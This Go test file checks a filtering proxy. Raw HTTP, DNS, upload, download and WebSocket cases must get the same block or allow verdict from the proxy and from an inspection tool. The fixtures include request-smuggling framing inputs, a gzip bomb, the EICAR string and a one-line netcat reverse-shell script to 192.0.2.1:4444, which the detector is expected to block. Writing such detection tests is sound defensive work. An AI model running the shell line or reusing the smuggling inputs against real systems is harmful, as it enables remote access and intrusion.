package app_test

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"compress/zlib"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"io"
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/andybalholm/brotli"
	"github.com/klauspost/compress/zstd"
	"github.com/miekg/dns"

	"weir/internal/event"
	"weir/internal/gate"
	"weir/internal/hostname"
	"weir/internal/inspect"
	"weir/internal/verdict"
)

// targetCases are answers that lead elsewhere by other records than CNAME. No command asks for these types, so the second way is
// the gate itself.
func (w *world) targetCases() (out []agreementCase) {
	blockedTXT := byRule("block", "no-txt")
	for _, c := range []struct {
		name    string
		qtype   uint16
		record  string
		targets []string
		addrs   []string
		want
	}{
		{"s1.test", dns.TypeHTTPS, "1 plain.test.", []string{"plain.test"}, nil, allowed},
		{"s2.test", dns.TypeHTTPS, "1 bad.test.", []string{"bad.test"}, nil, listed},
		{"s3.test", dns.TypeHTTPS, "1 . ipv4hint=10.0.0.1", nil, []string{"10.0.0.1"}, private},
		{"s4.test", dns.TypeHTTPS, "1 plain.test. ipv4hint=127.0.0.66", []string{"plain.test"}, []string{"127.0.0.66"}, ofAddress("block")},
		{"s5.test", dns.TypeHTTPS, "1 . ipv6hint=::1", nil, []string{"::1"}, private},
		{"s6.test", dns.TypeSVCB, "1 chess.games.test.", []string{"chess.games.test"}, nil, byRule("block", "no-games")},
		{"s7.test", dns.TypeHTTPS, "0 www.bad.test.", []string{"www.bad.test"}, nil, listed},
		{"m1.mail.test", dns.TypeMX, "10 bad.test.", []string{"bad.test"}, nil, listed},
		{"m2.mail.test", dns.TypeMX, "10 plain.test.", []string{"plain.test"}, nil, allowed},
		{"srv.test", dns.TypeSRV, "0 0 443 x.untrusted.test.", []string{"x.untrusted.test"}, nil, byClass("log", "untrusted", "untrusted")},
		{"ns.test", dns.TypeNS, "bad.test.", []string{"bad.test"}, nil, listed},
		{"t1.test", dns.TypeTXT, `"text"`, nil, nil, blockedTXT},
		{"t2.pardoned.bad.test", dns.TypeTXT, `"text"`, nil, nil, want{verdict: "block", cause: "rule", class: "bad", rule: "no-txt", list: "bad"}},
	} {
		w.names.tell(w.t, c.name, c.qtype, fmt.Sprintf("%s. 60 IN %s %s", c.name, dns.TypeToString[c.qtype], c.record))
		out = append(out, agreementCase{
			kind: "answer", name: dns.TypeToString[c.qtype] + " " + c.name, want: c.want,
			ways: []way{w.asked(adult, c.name, c.qtype), w.answered(c.name, c.qtype, c.targets, c.addrs)},
		})
	}
	return out
}

// answered takes a question and what its answer leads to through the gate.
func (w *world) answered(name string, qtype uint16, targets, addrs []string) way {
	return w.gated(func(_ *testing.T, g *gate.Gate, flow *inspect.Flow) *gate.Exchange {
		now := time.Now()
		x := g.Begin(inspect.DNS, flow, now)
		if x.Query(now, inspect.Question{Name: hostname.MustParse(name), Type: qtype, Class: dns.ClassINET}).Blocks() {
			return x
		}
		for _, target := range targets {
			if x.Name(now, verdict.PlaceTarget, hostname.MustParse(target)).Blocks() {
				return x
			}
		}
		for _, a := range addrs {
			if x.Address(now, verdict.PlaceAnswer, netip.MustParseAddr(a)).Blocks() {
				return x
			}
		}
		return x
	})
}

// aHead is a raw request. @ stands for the origin of plain.test.
type aHead struct {
	name, raw string
	want
}

func headsTable() []aHead {
	const get = "GET http://@/ HTTP/1.1\r\nHost: @\r\nConnection: close\r\n"
	const post = "POST http://@/ HTTP/1.1\r\nHost: @\r\nConnection: close\r\n"
	return []aHead{
		{"plain", get + "\r\n", allowed},
		{"many fields", get + "Accept: */*\r\nAccept-Language: de\r\nCookie: a=b\r\nReferer: http://x.test/\r\n\r\n", allowed},
		{"lower case", "GET http://@/ HTTP/1.1\r\nhost: @\r\nconnection: close\r\n\r\n", allowed},
		{"1.0", "GET http://@/ HTTP/1.0\r\nHost: @\r\n\r\n", allowed},
		{"head", "HEAD http://@/ HTTP/1.1\r\nHost: @\r\nConnection: close\r\n\r\n", allowed},
		{"delete", "DELETE http://@/ HTTP/1.1\r\nHost: @\r\nConnection: close\r\n\r\n", byRule("block", "no-delete")},
		{"own method", "PROPFIND http://@/ HTTP/1.1\r\nHost: @\r\nConnection: close\r\n\r\n", allowed},
		{"h2c is ignored", "GET http://@/ HTTP/1.1\r\nHost: @\r\nConnection: close, upgrade\r\nUpgrade: h2c\r\n\r\n", allowed},
		{"upgrade", "GET http://@/ HTTP/1.1\r\nHost: @\r\nConnection: close, upgrade\r\nUpgrade: weir/1\r\n\r\n", want{verdict: "block", cause: "safety", safety: "upgrade-refused"}},
		{"ftp", "GET ftp://@/ HTTP/1.1\r\nHost: @\r\nConnection: close\r\n\r\n", framing},
		{"address", "GET http://10.0.0.1/ HTTP/1.1\r\nHost: 10.0.0.1\r\nConnection: close\r\n\r\n", want{verdict: "block", cause: "safety", safety: "port-refused"}},
		{"https without a tunnel", "GET https://plain.test:1/ HTTP/1.1\r\nHost: plain.test:1\r\nConnection: close\r\n\r\n", want{verdict: "block", cause: "safety", safety: "port-refused"}},
		{"listed, https without a tunnel", "GET https://bad.test:#/ HTTP/1.1\r\nHost: bad.test:#\r\nConnection: close\r\n\r\n", listed},
		{"expects a continue", post + "Expect: 100-continue\r\nContent-Length: 2\r\n\r\nhi", allowed},
		{"upgrade to a websocket with a body", "GET http://@/ HTTP/1.1\r\nHost: @\r\nConnection: close, upgrade\r\nUpgrade: websocket\r\nContent-Length: 1\r\n\r\nx", want{verdict: "block", cause: "safety", safety: "upgrade-refused"}},
		{"two upgrades", "GET http://@/ HTTP/1.1\r\nHost: @\r\nConnection: close, upgrade\r\nUpgrade: weir/2, weir/1\r\n\r\n", want{verdict: "block", cause: "safety", safety: "upgrade-refused"}},
		{"length and encoding", post + "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", framing},
		{"two lengths", post + "Content-Length: 1\r\nContent-Length: 2\r\n\r\nab", framing},
		{"signed length", post + "Content-Length: +1\r\n\r\na", framing},
		{"list of lengths", post + "Content-Length: 1, 1\r\n\r\na", framing},
		{"encoding gzip", post + "Transfer-Encoding: gzip\r\n\r\n", framing},
		{"encoding twice", post + "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", framing},
		{"hidden encoding", post + "Transfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n", framing},
		{"encoding in 1.0", "POST http://@/ HTTP/1.0\r\nHost: @\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", framing},
		{"bare LF", "GET http://@/ HTTP/1.1\nHost: @\r\n\r\n", framing},
		{"bare LF in a field", get + "X: y\nZ: z\r\n\r\n", framing},
		{"bare CR", get + "X: a\rb\r\n\r\n", framing},
		{"folded", get + "X: a\r\n b\r\n\r\n", framing},
		{"space before colon", get + "X : a\r\n\r\n", framing},
		{"no colon", get + "nothing\r\n\r\n", framing},
		{"bad field name", get + "X(y): a\r\n\r\n", framing},
		{"NUL in a value", get + "X: a\x00b\r\n\r\n", framing},
		{"two hosts", get + "Host: @\r\n\r\n", framing},
		{"no host", "GET http://@/ HTTP/1.1\r\nConnection: close\r\n\r\n", framing},
		{"host is none", "GET http://@/ HTTP/1.1\r\nHost: a b\r\n\r\n", framing},
		{"another host", "GET http://@/ HTTP/1.1\r\nHost: other.test\r\n\r\n", framing},
		{"host of a listed name", "GET http://@/ HTTP/1.1\r\nHost: bad.test\r\n\r\n", framing},
		{"two spaces", "GET  http://@/ HTTP/1.1\r\nHost: @\r\n\r\n", framing},
		{"bad method", "G@T http://@/ HTTP/1.1\r\nHost: @\r\n\r\n", framing},
		{"bad version", "GET http://@/ HTTP/1.9\r\nHost: @\r\n\r\n", framing},
		{"userinfo", "GET http://user:secret@@/ HTTP/1.1\r\nHost: @\r\nConnection: close\r\n\r\n", framing},
		{"bad chunk", post + "Transfer-Encoding: chunked\r\n\r\nzz\r\nab\r\n0\r\n\r\n", framing},
		{"chunk with a prefix", post + "Transfer-Encoding: chunked\r\n\r\n0x2\r\nab\r\n0\r\n\r\n", framing},
		{"bad chunk end", post + "Transfer-Encoding: chunked\r\n\r\n2\r\nabc\r\n0\r\n\r\n", framing},
		{"late bad chunk", post + "Transfer-Encoding: chunked\r\n\r\n2\r\nab\r\n-1\r\n\r\n", framing},
		{"forbidden trailer", post + "Transfer-Encoding: chunked\r\n\r\n2\r\nab\r\n0\r\nContent-Length: 3\r\n\r\n", framing},
	}
}

// headerCases are raw requests, given to the proxy and to `inspect`.
func (w *world) headerCases() (out []agreementCase) {
	fill := func(s, name string) []byte {
		s = strings.ReplaceAll(s, "@@/", "\x01"+w.host(name, false)+"/")
		s = strings.ReplaceAll(s, "G@T", "G\x01T")
		_, secure, _ := strings.Cut(w.host(name, true), ":")
		s = strings.ReplaceAll(s, ":#", ":"+secure)
		return []byte(strings.ReplaceAll(strings.ReplaceAll(s, "@", w.host(name, false)), "\x01", "@"))
	}
	for _, h := range headsTable() {
		raw := fill(h.raw, "plain.test")
		out = append(out, agreementCase{kind: "header", name: h.name, want: h.want, ways: []way{w.proxied(adult, raw), w.inspected(raw)}})
	}
	for _, n := range []aName{{"games.test", byRule("block", "no-games")}, {"bad.test", listed}, {"x.labs.test", byRule("log", "labs-are-watched")}} {
		raw := fill("POST http://@/ HTTP/1.1\r\nHost: @\r\nConnection: close\r\nContent-Length: 2\r\n\r\nhi", n.name)
		out = append(out, agreementCase{kind: "header", name: "post to " + n.name, want: n.want, ways: []way{w.proxied(adult, raw), w.inspected(raw)}})
	}
	// As above inside a tunnel, where a request names its host in one place only.
	for _, h := range []aHead{
		{"plain", "GET /x HTTP/1.1\r\nHost: @\r\nConnection: close\r\n\r\n", allowed},
		{"delete", "DELETE /x HTTP/1.1\r\nHost: @\r\nConnection: close\r\n\r\n", byRule("block", "no-delete")},
		{"folded", "GET /x HTTP/1.1\r\nHost: @\r\nX: a\r\n b\r\n\r\n", framing},
		{"length and encoding", "POST /x HTTP/1.1\r\nHost: @\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", framing},
	} {
		raw := fill(h.raw, "plain.test")
		out = append(out, agreementCase{
			kind: "header", name: "inside a tunnel: " + h.name, want: h.want,
			ways: []way{w.connected(w.host("plain.test", false), raw, event.KindHTTP), w.inspected(raw)},
		})
	}
	return append(out, w.connectCases()...)
}

// connectCases are raw CONNECT requests.
func (w *world) connectCases() (out []agreementCase) {
	for _, c := range []struct {
		authority string
		want
	}{
		{w.host("bad.test", true), listed},
		{w.host("games.test", true), byRule("block", "no-games")},
		{"plain.test:25", want{verdict: "block", cause: "safety", safety: "port-refused"}},
		{w.host("0xa.1", true), private},
		{w.host("[fe80::1]", true), private},
	} {
		raw := fmt.Appendf(nil, "CONNECT %[1]s HTTP/1.1\r\nHost: %[1]s\r\n\r\n", c.authority)
		out = append(out, agreementCase{
			kind: "header", name: "connect " + c.authority, want: c.want,
			ways: []way{w.refused(raw), w.inspected(raw)},
		})
	}
	return out
}

// refused sends a CONNECT and leaves.
func (w *world) refused(raw []byte) way {
	return way{"proxy", func(t *testing.T) decision {
		from := len(w.events.Events())
		c := w.dial(t, adult)
		if _, err := c.Write(raw); err != nil {
			t.Fatal(err)
		}
		_ = c.CloseWrite()
		_, _ = io.Copy(io.Discard, c)
		return decisionOfEvent(w.await(t, from, c.LocalAddr(), event.KindConnect))
	}}
}

// eicar is the test file of EICAR, in two parts so that this file is not taken for it.
const eicar = `X5O!P%@AP[4\PZX54(P^)7CC)7}$` + "EICAR-STANDARD-" + `ANTIVIRUS-TEST-FILE!$H+H*`

const shell = "#!/bin/sh\nexec nc 192.0.2.1 4444\n"

// program is the head of a PE file as linkers write it.
func program() string {
	p := make([]byte, 4096)
	copy(p, "MZ\x90\x00\x03")
	p[60] = 0x80
	copy(p[0x80:], "PE\x00\x00\x64\x86\x03\x00")
	binary.LittleEndian.PutUint16(p[0x80+24:], 0x20b)
	return string(p)
}

func packed(coding, s string) string {
	var b bytes.Buffer
	var wr io.WriteCloser
	switch coding {
	case "gzip":
		wr = gzip.NewWriter(&b)
	case "deflate":
		wr = zlib.NewWriter(&b)
	case "br":
		wr = brotli.NewWriter(&b)
	case "zstd":
		wr, _ = zstd.NewWriter(&b)
	case "raw-deflate":
		wr, _ = flate.NewWriter(&b, flate.DefaultCompression)
	}
	_, _ = io.WriteString(wr, s)
	_ = wr.Close()
	return b.String()
}

// aBody is a body with the fields that describe it.
type aBody struct {
	name, fields, body string
	want
}

func bodiesTable() []aBody {
	quoted := `{"data":"` + base64.StdEncoding.EncodeToString([]byte("some text before, "+eicar)) + `"}`
	limit := want{verdict: "block", cause: "limit"}
	broken := want{verdict: "block", cause: "error"}
	const text, json, png = "Content-Type: text/plain\r\n", "Content-Type: application/json\r\n", "Content-Type: image/png\r\n"
	bodies := []aBody{
		{"clean text", text, "nothing to see", allowed},
		{"clean json", json, `{"a":1}`, allowed},
		{"no type", "", "nothing to see", allowed},
		{"eicar", text, eicar, byDetector("block")},
		{"eicar in the middle", text, strings.Repeat("x", 5000) + eicar + strings.Repeat("y", 5000), byDetector("block")},
		{"eicar behind what is held", text, strings.Repeat("x", 200<<10) + eicar, byDetector("block")},
		{"eicar in base64 in json", json, quoted, byDetector("block")},
		{"eicar in hex", text, "blob: " + hex.EncodeToString([]byte(eicar)), byDetector("block")},
		{"gzip in gzip", text + "Content-Encoding: gzip, gzip\r\n", packed("gzip", packed("gzip", eicar)), byDetector("block")},
		{"br over base64", json + "Content-Encoding: br\r\n", packed("br", quoted), byDetector("block")},
		{"raw deflate", text + "Content-Encoding: deflate\r\n", packed("raw-deflate", eicar), byDetector("block")},
		{"script as image", png, shell, byDetector("block")},
		{"program as image", png, program(), byDetector("block")},
		{"program as page", "Content-Type: text/html\r\n", program(), byDetector("block")},
		{"program as program", "Content-Type: application/octet-stream\r\n", program(), allowed},
		{"program in base64", json, `{"f":"` + base64.StdEncoding.EncodeToString([]byte(program())) + `"}`, byDetector("block")},
		{"program in hex", text, hex.EncodeToString([]byte(program())), byDetector("block")},
		{"script in base64", json, `{"f":"` + base64.StdEncoding.EncodeToString([]byte(shell)) + `"}`, byDetector("block")},
		{"unknown coding", text + "Content-Encoding: rot13\r\n", "uryyb", broken},
		{"broken gzip", text + "Content-Encoding: gzip\r\n", "this is no gzip", broken},
		{"too deep", text + "Content-Encoding: gzip, gzip, gzip, gzip\r\n", packed("gzip", packed("gzip", packed("gzip", packed("gzip", "x")))), limit},
		{"bomb", text + "Content-Encoding: gzip\r\n", packed("gzip", strings.Repeat("\x00", 2<<20)), limit},
		{"blocked type", "Content-Type: application/x-blocked; q=1\r\n", "hello", byRule("block", "no-type")},
		{"watched type", "Content-Type: font/woff2\r\n", "hello", byRule("log", "seen-type")},
	}
	for _, coding := range []string{"gzip", "deflate", "br", "zstd"} {
		bodies = append(bodies,
			aBody{"eicar in " + coding, text + "Content-Encoding: " + coding + "\r\n", packed(coding, eicar), byDetector("block")},
			aBody{"text in " + coding, text + "Content-Encoding: " + coding + "\r\n", packed(coding, "nothing to see"), allowed})
	}
	return bodies
}

func chunked(body string) string { return fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", len(body), body) }

// bodyCases are uploads: the same octets go to the proxy and to `inspect`.
func (w *world) bodyCases() (out []agreementCase) {
	add := func(name, host, fields, body string, expect want) {
		head := "POST http://" + w.host(host, false) + "/up HTTP/1.1\r\nHost: " + w.host(host, false) + "\r\nConnection: close\r\n" + fields
		raw := fmt.Appendf(nil, "%sContent-Length: %d\r\n\r\n%s", head, len(body), body)
		parts := []byte(head + "Transfer-Encoding: chunked\r\n\r\n" + chunked(body))
		out = append(out,
			agreementCase{kind: "body", name: "upload " + name, want: expect, ways: []way{w.proxied(adult, raw), w.inspected(raw)}},
			agreementCase{kind: "body", name: "upload in chunks " + name, want: expect, ways: []way{w.proxied(adult, parts), w.inspected(parts)}})
	}
	for _, b := range bodiesTable() {
		add(b.name, "plain.test", b.fields, b.body, b.want)
	}
	const text, json = "Content-Type: text/plain\r\n", "Content-Type: application/json\r\n"
	hidden := base64.StdEncoding.EncodeToString([]byte(shell))
	add("where a rule only watches scripts", "scripts.test", json, hidden, byDetector("block"))
	add("where a rule lets eicar pass", "eicar.test", text, eicar, allowed)
	add("where severe is blocked", "severe.test", text, eicar, want{verdict: "block", cause: "rule", class: "unknown", rule: "nothing-severe"})
	add("where nothing is inspected", "x.raw.test", text, eicar, byRule("allow", "uninspected"))
	add("where a list says block", "bad.test", text, eicar, listed)
	add("where a rule allows a listed name", "pardoned.bad.test", text, eicar, want{verdict: "block", cause: "detector", class: "bad"})
	return out
}

// contentCases are downloads: the origin sends the octets that `inspect` is given.
func (w *world) contentCases() (out []agreementCase) {
	for _, b := range bodiesTable() {
		head := "HTTP/1.1 200 OK\r\nConnection: close\r\n" + b.fields
		for how, raw := range map[string]string{
			"":            fmt.Sprintf("%sContent-Length: %d\r\n\r\n%s", head, len(b.body), b.body),
			"in chunks ":  head + "Transfer-Encoding: chunked\r\n\r\n" + chunked(b.body),
			"till close ": head + "\r\n" + b.body,
		} {
			n := w.contents.add([]byte(raw))
			at := "http://" + w.host("plain.test", false) + "/raw/" + n
			out = append(out, agreementCase{
				kind: "body", name: "download " + how + b.name, want: b.want, view: onlyContent,
				ways: []way{w.fetched(adult, "GET", at), w.inspected([]byte(raw))},
			})
		}
	}
	return out
}

// messageCases are messages in a WebSocket, each way.
func (w *world) messageCases() (out []agreementCase) {
	hidden := base64.StdEncoding.EncodeToString([]byte(shell))
	for _, m := range []struct {
		name, host, message string
		want
	}{
		{"clean", "plain.test", "hello", allowed},
		{"eicar", "plain.test", eicar, byDetector("block")},
		{"eicar in base64", "plain.test", `{"d":"` + base64.StdEncoding.EncodeToString([]byte(eicar)) + `"}`, byDetector("block")},
		{"eicar in hex", "plain.test", hex.EncodeToString([]byte(eicar)), byDetector("block")},
		{"program in base64", "plain.test", base64.StdEncoding.EncodeToString([]byte(program())), byDetector("block")},
		{"script in base64", "plain.test", hidden, byDetector("block")},
		{"script that is watched", "scripts.test", hidden, byDetector("block")},
		{"eicar that passes", "eicar.test", eicar, allowed},
		{"severe", "severe.test", eicar, want{verdict: "block", cause: "rule", class: "unknown", rule: "nothing-severe"}},
		{"uninspected", "x.raw.test", eicar, byRule("allow", "uninspected")},
		{"watched name", "x.labs.test", "hello", byRule("log", "labs-are-watched")},
		{"only sockets are blocked", "socketonly.test", "hello", byRule("block", "socket-only")},
	} {
		at, push := w.host(m.host, false), "/push/"+w.contents.add([]byte(m.message))
		out = append(out,
			agreementCase{
				kind: "message", name: "to the server: " + m.name, want: m.want,
				ways: []way{w.conversed(at, "/sink", []byte(m.message)), w.messages(at, "/sink", inspect.RequestData, []byte(m.message))},
			},
			agreementCase{
				kind: "message", name: "to the client: " + m.name, want: m.want,
				ways: []way{w.conversed(at, push, nil), w.messages(at, push, inspect.ResponseData, []byte(m.message))},
			})
	}
	return out
}
